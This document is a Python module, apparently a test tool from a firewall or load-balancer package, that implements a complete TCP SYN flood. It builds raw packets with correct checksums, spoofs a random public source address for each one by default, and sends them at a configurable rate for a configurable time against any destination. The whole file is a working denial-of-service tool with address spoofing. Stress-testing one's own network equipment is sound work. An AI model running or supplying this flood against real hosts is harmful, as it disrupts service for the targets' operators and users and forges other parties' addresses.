"""Bounded TCP SYN flood: valid SYNs (right checksums) at a steady rate for a fixed time, then it stops.

    /usr/bin/python3 -m fwlbnet.synflood DST_IP [--port 80] [--pps 20000] [--seconds 10] [--fixed-source]

Prints one JSON object: sent, seconds (wall time of the run), pps (achieved), errors. Needs root (a raw
IPv4 socket with IP_HDRINCL; the kernel routes each packet and resolves the next hop's MAC). With random
sources (the default) each SYN comes from another public-looking address and port, like
`hping3 --flood --rand-source`, but paced and with a deadline, so a test cannot leave it running.
"""
import argparse
import json
import random
import socket
import struct
import sys
import time

# addresses never used as random sources: 0/8, 10/8, 127/8, 169.254/16, 172.16/12, 192.168/16, 224/3
_RESERVED = ((0x00000000, 8), (0x0a000000, 8), (0x7f000000, 8), (0xa9fe0000, 16), (0xac100000, 12),
             (0xc0a80000, 16), (0xe0000000, 3))


def checksum(data):
    """RFC 1071 Internet checksum."""
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def reserved(ip):
    """Whether an address (int) lies in a block never used as a random source."""
    return any((ip >> (32 - n)) == (net >> (32 - n)) for net, n in _RESERVED)


def random_source(rnd):
    """A random unicast public address (int)."""
    while True:
        ip = rnd.getrandbits(32)
        if not reserved(ip):
            return ip


def syn_packet(src, dst, sport, dport, seq, ident=0):
    """An IPv4 + TCP SYN (no options, window 64240) with correct checksums; src/dst are ints."""
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack('!IIBBH', src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBHII', 0x45, 0, 20 + len(tcp), ident, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + tcp


def flood(dst_ip, dst_port=80, pps=20000, seconds=10.0, rand_source=True, src_ip=None, seed=None):
    """Sends SYNs to dst_ip:dst_port at `pps` for `seconds`, then returns {sent, seconds, pps, errors}.
    Paced in 1 ms slots (a slot behind schedule sends its backlog at once, never more than pps*seconds).
    Without rand_source every SYN has src_ip (default: the address the kernel would use) and a new port."""
    if pps <= 0 or seconds <= 0:
        raise ValueError('pps and seconds must be positive')
    rnd = random.Random(seed)
    dst = struct.unpack('!I', socket.inet_aton(dst_ip))[0]
    if not rand_source and src_ip is None:
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            probe.connect((dst_ip, dst_port))
            src_ip = probe.getsockname()[0]
        finally:
            probe.close()
    fixed = None if rand_source else struct.unpack('!I', socket.inet_aton(src_ip))[0]
    total = int(pps * seconds)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = errors = 0
    try:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        t0 = time.monotonic()
        deadline = t0 + seconds
        while sent + errors < total:
            now = time.monotonic()
            if now >= deadline:
                break
            due = min(total, int((now - t0) * pps) + 1)
            while sent + errors < due:
                src = fixed if fixed is not None else random_source(rnd)
                pkt = syn_packet(src, dst, rnd.randrange(1024, 65536), dst_port, rnd.getrandbits(32),
                                 (sent + errors) & 0xffff)
                try:
                    s.sendto(pkt, (dst_ip, 0))
                    sent += 1
                except OSError:
                    errors += 1       # e.g. ENOBUFS: counted, not retried (the rate is the point)
            time.sleep(0.001)
        took = time.monotonic() - t0
    finally:
        s.close()
    return {'sent': sent, 'seconds': round(took, 3), 'pps': round(sent / took, 1) if took > 0 else 0.0,
            'errors': errors}


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument('dst')
    ap.add_argument('--port', type=int, default=80)
    ap.add_argument('--pps', type=int, default=20000)
    ap.add_argument('--seconds', type=float, default=10.0)
    ap.add_argument('--fixed-source', action='store_true', help='the host\'s own address, not random ones')
    ap.add_argument('--seed', type=int)
    a = ap.parse_args(argv)
    try:
        r = flood(a.dst, a.port, a.pps, a.seconds, rand_source=not a.fixed_source, seed=a.seed)
    except (ValueError, OSError) as e:
        print('synflood: %s' % e, file=sys.stderr)
        return 2
    print(json.dumps(r))
    return 0


if __name__ == '__main__':
    sys.exit(main())
